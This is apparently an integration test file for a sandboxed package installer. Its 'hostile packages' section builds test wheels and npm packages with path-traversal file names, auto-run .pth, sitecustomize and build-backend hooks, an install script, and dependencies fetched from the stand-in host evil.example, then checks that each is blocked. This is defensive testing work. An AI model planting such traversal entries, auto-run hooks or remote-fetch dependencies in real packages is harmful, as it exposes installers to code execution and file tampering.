import { chmod, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { isProblemError, readNeeds, type ScriptRuntime, type TenantId } from '@repertoire/core'
import { defaultLimits, openSandbox } from '@repertoire/sandbox'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createSandboxLink } from '../scripts/sandbox-link.ts'
import { whatInstallingLacks } from '../testing/installing.ts'
import { wheelOf, zipOf } from '../testing/package-archives.ts'
import {
  type NodeTestIndex,
  type PythonTestIndex,
  startNodeIndex,
  startPythonIndex,
} from '../testing/package-indexes.ts'
import { testLayers } from '../testing/test-layers.ts'
import type { LayerService } from './layer-service.ts'
import { parsePackageIndex } from './package-index.ts'

const sandbox = await openSandbox({ concurrency: 2 })
const lacking = await whatInstallingLacks(sandbox)
const settings = {
  ...({ backend: 'auto', executorUrl: undefined, executorToken: undefined } as const),
  ...{ concurrency: undefined, timeoutSeconds: 60 },
}
const link = createSandboxLink(settings, async () => sandbox)
const mebibyte = 1024 * 1024

/** Python that tells that it was run: by printing, and in the layer when that is being made. */
const tellsThatItRan = `import os, sys
print("RAN", flush=True)
if os.path.isdir("/workspace/layer"):
    open("/workspace/layer/ran", "w").close()
`

describe.skipIf(lacking !== null)(
  'packages of scripts, with bubblewrap, real pip and real npm',
  {
    timeout: 120_000,
  },
  () => {
    let folder = ''
    let python: PythonTestIndex
    let node: NodeTestIndex
    const opened: LayerService[] = []

    beforeAll(async () => {
      folder = await mkdtemp(join(tmpdir(), 'layers-test-'))
      await chmod(folder, 0o755)
      python = await startPythonIndex()
      node = await startNodeIndex()
      const wheel = (making: Parameters<typeof wheelOf>[0]) => {
        const { file, bytes } = wheelOf(making)
        python.add(making.name, file, bytes)
      }
      wheel({
        name: 'greet',
        files: { 'greet/__init__.py': 'import other\ndef hello(): return "hello " + other.who\n' },
        metadata: ['Requires-Dist: other>=1'],
      })
      wheel({ name: 'other', files: { 'other.py': 'who = "from a wheel"\n' } })
      wheel({ name: 'escapes', files: { '../../../workspace/escaped.py': 'x = 1\n', 'in.py': '' } })
      wheel({
        name: 'starts',
        files: {
          'starts.pth': `import os; os.write(1, b"PTH RAN")\n`,
          'sitecustomize.py': tellsThatItRan,
          'starts.py': 'x = 1\n',
        },
      })
      wheel({
        name: 'leads-out',
        files: { 'leads.py': '' },
        metadata: [
          `Requires-Dist: builds @ ${python.url.replace('/simple/', '')}/files/builds/builds-1.0.zip`,
        ],
      })
      // Needs nothing to be built but to be started.
      const source = zipOf({
        'builds-1.0/pyproject.toml':
          '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n',
        'builds-1.0/evil.py': `${tellsThatItRan}raise SystemExit(1)\n`,
      })
      python.add('builds', 'builds-1.0.zip', source)
      wheel({
        name: 'calls-home',
        files: { 'calls.py': '' },
        metadata: ['Requires-Dist: evil @ http://evil.example/evil-1.0-py3-none-any.whl'],
      })
      const manifest = { dependencies: { 'other-js': '^1.0.0' } }
      node.add('greet-js', '1.2.0', {
        manifest: { ...manifest, scripts: { postinstall: 'touch ../ran' } },
        files: { 'index.js': 'module.exports = "hello " + require("other-js")' },
      })
      node.add('other-js', '1.0.0', { files: { 'index.js': 'module.exports = "from a tarball"' } })
      node.add('leads-out-js', '1.0.0', {
        manifest: { dependencies: { evil: 'git+https://evil.example/evil.git' } },
        files: { 'index.js': '' },
      })
      node.add('calls-home-js', '1.0.0', {
        manifest: { dependencies: { evil: 'http://evil.example/evil.tgz' } },
        files: { 'index.js': '' },
      })
    })

    afterAll(async () => {
      for (const layers of opened) await layers.close()
      await sandbox.close(0)
      await Promise.all([python?.stop(), node?.stop()])
      await rm(folder, { recursive: true, force: true })
    })

    const open = (name: string, more: Partial<Parameters<typeof testLayers>[1]> = {}) => {
      const indexes = {
        python: parsePackageIndex(python.url) ?? undefined,
        node: parsePackageIndex(node.url) ?? undefined,
      }
      const layers = testLayers(link, { ...indexes, folder: join(folder, name), ...more })
      opened.push(layers)
      return layers
    }

    const runtimes: Record<string, ScriptRuntime> = {
      py: 'python',
      mjs: 'node',
      cjs: 'node',
      sh: 'shell',
    }

    /** A script of a skill that has only this file of needs. */
    async function run(
      layers: LayerService,
      needed: Record<string, string>,
      script: string,
      at: { entry?: string; tenant?: string; signal?: AbortSignal } = {},
    ) {
      const { entry = 'main.py', tenant = 'ten_a' } = at
      const runtime = runtimes[entry.split('.').at(-1) ?? ''] ?? 'python'
      const told: string[] = []
      const given = await layers.give({
        tenantId: tenant as TenantId,
        needs: readNeeds((path) => needed[path], runtime),
        signal: at.signal ?? new AbortController().signal,
        onInstalling: (packages) => told.push(...packages),
      })
      try {
        const result = await sandbox.execute({
          ...{ runtime, entry, args: [], stdin: new Uint8Array(), workspace: [] },
          files: [{ path: entry, bytes: Buffer.from(script), executable: false }],
          ...{ env: given.env, layers: given.layers, limits: defaultLimits, queueKey: tenant },
        })
        const text = (bytes: Uint8Array): string => Buffer.from(bytes).toString()
        return { ...result, stdout: text(result.stdout), stderr: text(result.stderr), told, given }
      } finally {
        given.release()
      }
    }

    const greetPy = { 'requirements.txt': 'greet\n' }
    const sayPy = 'import greet\nprint(greet.hello())'
    const greetJs = { 'package.json': '{"dependencies":{"greet-js":"^1"}}' }

    async function problemOf(promise: Promise<unknown>) {
      const error = await promise.then(
        () => new Error('it went well'),
        (thrown: unknown) => thrown,
      )
      if (isProblemError(error)) return error.problem
      throw error
    }

    it('C10: requirements.txt is honoured, told while it is installed, and once for all', async () => {
      const layers = open('python')
      const first = await run(layers, greetPy, sayPy)
      expect(first).toMatchObject({ status: 'ok', stdout: 'hello from a wheel\n', stderr: '' })
      expect(first.told).toEqual(['greet'])
      const asked = python.asked.length
      const again = await run(layers, { 'requirements.txt': '# the same\ngreet' }, sayPy, {
        tenant: 'ten_b',
      })
      expect(again).toMatchObject({ stdout: 'hello from a wheel\n', told: [] })
      expect(python.asked.length).toBe(asked)
      const restarted = await run(open('python'), greetPy, sayPy)
      expect(restarted).toMatchObject({ stdout: 'hello from a wheel\n', told: [] })
      expect(restarted.given.layers).toEqual(first.given.layers)
    })

    it.each([
      ['scripts/main.mjs', 'import hello from "greet-js"\nconsole.log(hello)'],
      ['main.cjs', 'console.log(require("greet-js"))'],
    ])('C10: package.json is honoured by %s', async (entry, script) => {
      const result = await run(open('node'), greetJs, script, { entry })
      expect(result).toMatchObject({ stdout: 'hello from a tarball\n', stderr: '' })
    })

    it('C10: a shell script starts a Python that has them', async () => {
      const script = 'python3 -c "import greet; print(greet.hello())"'
      const result = await run(open('python'), greetPy, script, { entry: 'main.sh' })
      expect(result).toMatchObject({ stdout: 'hello from a wheel\n', stderr: '' })
    })

    it('C10: package-lock.json is what is installed, checked by its hashes', async () => {
      const layers = open('locked')
      const packages = {
        '': { dependencies: { 'other-js': '1.0.0' } },
        'node_modules/other-js': { version: '1.0.0', integrity: 'sha512-AAAA' },
      }
      const wrong = {
        'package.json': '{"dependencies":{"other-js":"1.0.0"}}',
        'package-lock.json': JSON.stringify({ lockfileVersion: 3, packages }),
      }
      const problem = await problemOf(run(layers, wrong, '', { entry: 'main.mjs' }))
      expect(problem).toMatchObject({ code: 'layer.install-failed' })
      expect(problem.message).toMatch(/EINTEGRITY|integrity/)
    })

    it('C10: many who ask for one layer at once build it once', async () => {
      const layers = open('together')
      const asked = python.asked.length
      const all = await Promise.all(
        ['a', 'b', 'c', 'd'].map((tenant) => run(layers, greetPy, sayPy, { tenant })),
      )
      for (const one of all) expect(one.stdout).toBe('hello from a wheel\n')
      const downloads = python.asked.slice(asked).filter((one) => one.includes('/files/greet/'))
      // Once to resolve, once to install.
      expect(downloads).toHaveLength(2)
    })

    it('C10: without an index, it is refused by the packages and what to set', async () => {
      const problem = await problemOf(run(open('unset', { python: undefined }), greetPy, sayPy))
      expect(problem).toMatchObject({
        code: 'layer.index-not-set',
        message: expect.stringMatching(/greet.*PACKAGE_INDEX_PYTHON.*not run/s),
        details: { packages: ['greet'] },
      })
    })

    it('C10: certificates that cannot be read are the operator’s to mend', async () => {
      const layers = open('no-ca', { caFile: join(folder, 'nowhere.pem') })
      expect(await problemOf(run(layers, greetPy, sayPy))).toMatchObject({
        code: 'layer.installer-missing',
        message: expect.stringContaining('PACKAGE_INDEX_CA_FILE'),
      })
    })

    it('C10: with the index gone, what is there runs and what is not is named', async () => {
      const index = await startPythonIndex()
      const { file, bytes } = wheelOf({
        name: 'greet',
        files: { 'greet.py': 'def hello(): return 1\n' },
      })
      index.add('greet', file, bytes)
      const layers = open('gone', { python: parsePackageIndex(index.url) ?? undefined })
      await run(layers, greetPy, sayPy)
      await index.stop()
      expect(await run(layers, greetPy, sayPy)).toMatchObject({ stdout: '1\n', told: [] })
      const problem = await problemOf(run(layers, { 'requirements.txt': 'other==1.0' }, ''))
      expect(problem).toMatchObject({
        code: 'layer.offline',
        message: expect.stringContaining('other==1.0'),
        details: { packages: ['other==1.0'] },
      })
      expect(
        await layers.report(
          readNeeds((path) => (path === 'requirements.txt' ? 'greet' : undefined), 'python'),
        ),
      ).toEqual([{ kind: 'python', packages: ['greet'], installed: true }])
    })

    it('C10: a package that is not there is told apart from an index that is not', async () => {
      const layers = open('missing')
      expect(await problemOf(run(layers, { 'requirements.txt': 'nowhere' }, ''))).toMatchObject({
        code: 'layer.not-found',
      })
      const needed = { 'package.json': '{"dependencies":{"nowhere":"1"}}' }
      expect(await problemOf(run(layers, needed, '', { entry: 'main.mjs' }))).toMatchObject({
        code: 'layer.not-found',
      })
    })

    it('C10: who gives up waiting does, and the others get their layer', async () => {
      const layers = open('given-up')
      const abort = new AbortController()
      const one = run(layers, greetPy, sayPy, { signal: abort.signal, tenant: 'ten_a' })
      const other = run(layers, greetPy, sayPy, { tenant: 'ten_b' })
      setImmediate(() => abort.abort())
      await expect(one).rejects.toThrow()
      expect(await other).toMatchObject({ stdout: 'hello from a wheel\n' })
    })

    describe('against hostile packages', () => {
      it('C10: a wheel that writes beside its folder leaves nothing anywhere', async () => {
        const layers = open('escapes')
        const problem = await problemOf(run(layers, { 'requirements.txt': 'escapes' }, ''))
        expect(problem.code).toBe('layer.install-failed')
        expect(await readdir(join(folder, 'escapes')).catch(() => [])).toEqual([])
      })

      it('C10: what a wheel would start by itself starts in no installation', async () => {
        const layers = open('starts')
        const needed = { 'requirements.txt': 'starts' }
        const result = await run(layers, needed, 'import starts\nprint(starts.x)')
        const [layer] = result.given.layers
        expect(await readdir(layer?.hostPath ?? '')).not.toContain('ran')
        // In the script's own sandbox its packages may do what the script may; .pth files are not read.
        expect(result.stdout).toContain('RAN\n')
        expect(result.stdout).not.toContain('PTH RAN')
        expect(result.stdout).toMatch(/1\n$/)
      })

      it('C10: a source package that a wheel asks for by address is not built', async () => {
        const layers = open('leads-out')
        const problem = await problemOf(run(layers, { 'requirements.txt': 'leads-out' }, ''))
        expect(problem).toMatchObject({
          code: 'layer.install-failed',
          message: expect.stringContaining('nothing may be started while packages are installed'),
        })
      })

      it('C10: an installation reaches no other host, whatever a package names', async () => {
        const layers = open('calls-home')
        for (const [needed, entry] of [
          [{ 'requirements.txt': 'calls-home' }, 'main.py'],
          [{ 'package.json': '{"dependencies":{"calls-home-js":"1"}}' }, 'main.mjs'],
        ] as const) {
          expect(await problemOf(run(layers, needed, '', { entry }))).toMatchObject({
            code: 'layer.host-refused',
            message: expect.stringContaining('evil.example:80'),
          })
        }
      })

      it('C10: a repository that a package asks for is not fetched', async () => {
        const needed = { 'package.json': '{"dependencies":{"leads-out-js":"1"}}' }
        const problem = await problemOf(run(open('git'), needed, '', { entry: 'main.mjs' }))
        expect(problem.code).toMatch(/^layer\./)
      })

      it('C10: install scripts do not run', async () => {
        const result = await run(open('node'), greetJs, 'console.log(1)', { entry: 'main.mjs' })
        const [layer] = result.given.layers
        expect((await readdir(layer?.hostPath ?? '')).sort()).toEqual(['greet-js', 'other-js'])
      })

      it('C10: a layer that was changed on disk is not used, but made again', async () => {
        const layers = open('tampered')
        const { given } = await run(layers, greetPy, sayPy)
        const file = join(given.layers[0]?.hostPath ?? '', 'other.py')
        await chmod(file, 0o644)
        await writeFile(file, 'who = "somebody else"\n')
        const { stdout, told } = await run(layers, greetPy, sayPy)
        expect({ stdout, told }).toEqual({
          stdout: 'hello from a wheel\n',
          told: ['greet'],
        })
        const again = await run(layers, greetPy, sayPy)
        const at = join(again.given.layers[0]?.hostPath ?? '', 'greet')
        await chmod(at, 0o755)
        await writeFile(join(at, 'more.py'), '')
        expect((await run(open('tampered'), greetPy, sayPy)).told).toHaveLength(1)
      })
    })

    it('C10: layers share a bounded place, and one in use is not taken away', async () => {
      let now = 1_000_000
      const clock = { now: () => now as never }
      const wheels = await startPythonIndex()
      for (const name of ['one', 'two', 'three']) {
        const files = { [`${name}.py`]: `x = 1 # ${'x'.repeat(mebibyte)}\n` }
        const { file, bytes } = wheelOf({ name, files })
        wheels.add(name, file, bytes)
      }
      const index = parsePackageIndex(wheels.url) ?? undefined
      const at = {
        python: index,
        node: undefined,
        folder: join(folder, 'full'),
        mostBytes: 3 * mebibyte,
      }
      const layers = testLayers(link, at, { clock })
      opened.push(layers)
      const give = (name: string) =>
        layers.give({
          tenantId: 'ten_a' as TenantId,
          needs: readNeeds((path) => (path === 'requirements.txt' ? name : undefined), 'python'),
          signal: new AbortController().signal,
          onInstalling: () => undefined,
        })
      const kept = async () => (await readdir(join(folder, 'full', 'ready'))).length
      const one = await give('one')
      now += 1
      ;(await give('two')).release()
      expect(await kept()).toBe(2)
      expect(await problemOf(give('three'))).toMatchObject({ code: 'layer.cache-full' })
      now += 10 * 60_000
      ;(await give('three')).release()
      expect(await kept()).toBe(2)
      expect(await readdir(one.layers[0]?.hostPath ?? '')).toContain('one.py')
      one.release()
      await wheels.stop()
    })

    it('C10: where scripts run on another kind of machine, nothing is installed for the wrong one', async () => {
      const elsewhere = {
        ...link,
        execute: async (...[request, listener]: Parameters<typeof link.execute>) => {
          const result = await link.execute(request, listener)
          if (request.args[0] !== 'describe') return result
          const told = JSON.stringify({ version: 'Python 3.99', fits: ['cpython-399'] })
          return { ...result, stdout: Buffer.from(told) }
        },
      }
      const at = { python: parsePackageIndex(python.url) ?? undefined, folder: join(folder, 'far') }
      const layers = testLayers(elsewhere, at, {
        installing: { ...link, close: async () => undefined },
      })
      opened.push(layers)
      expect(await problemOf(run(layers, greetPy, sayPy))).toMatchObject({
        code: 'layer.other-machine',
        message: expect.stringContaining('Python 3.99'),
      })
    })

    it('C10: where nothing isolates, nothing is installed, and it says what to do', async () => {
      const unisolated = await openSandbox({ unisolated: true, concurrency: 1 })
      const plain = createSandboxLink(settings, async () => unisolated)
      const at = {
        python: parsePackageIndex(python.url) ?? undefined,
        folder: join(folder, 'plain'),
      }
      const layers = testLayers(plain, at)
      opened.push(layers)
      expect(await problemOf(run(layers, greetPy, sayPy))).toMatchObject({
        code: 'layer.installer-missing',
        message: expect.stringMatching(/greet.*install bubblewrap/s),
      })
      await unisolated.close(0)
    })

    it('C10: what a process left half-built is cleaned up by the next', async () => {
      const making = join(folder, 'python', 'making')
      const { hostname } = await import('node:os')
      const dead = `${hostname()}~999999999~left`
      await writeFile(join(making, dead), 'half')
      await run(open('python'), greetPy, sayPy)
      expect(await readdir(making)).toEqual([])
    })
  },
)
